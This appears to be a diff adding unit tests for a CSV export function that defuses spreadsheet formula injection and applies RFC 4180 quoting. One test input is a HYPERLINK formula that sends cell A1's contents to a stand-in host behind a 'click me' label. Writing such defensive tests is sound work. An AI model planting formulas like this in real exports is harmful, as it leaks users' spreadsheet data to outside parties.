@@ -1,0 +1,28 @@
+// CSV fields as a spreadsheet will read them: no cell a consumer wrote may become a formula (issue 25 §3).
+import { csvField } from './export'
+
+describe('csvField', () => {
+  it.each([
+    ['=HYPERLINK("http://x.example/?"&A1,"点我")', `"'=HYPERLINK(""http://x.example/?""&A1,""点我"")"`],
+    ['+1+1', "'+1+1"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1)', "'@SUM(1)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+  ])('neutralises the formula %j', (input, expected) => {
+    expect(csvField(input)).toBe(expected)
+  })
+
+  it('leaves plain numbers, negative amounts included, as numbers', () => {
+    expect(csvField('-10.00')).toBe('-10.00')
+    expect(csvField(-3)).toBe('-3')
+    expect(csvField('100')).toBe('100')
+  })
+
+  it('quotes commas, quotes and line breaks (RFC 4180) and leaves plain text alone', () => {
+    expect(csvField('a,b')).toBe('"a,b"')
+    expect(csvField('say "hi"')).toBe('"say ""hi"""')
+    expect(csvField('礼品卡 消费')).toBe('礼品卡 消费')
+    expect(csvField(undefined)).toBe('')
+  })
+})
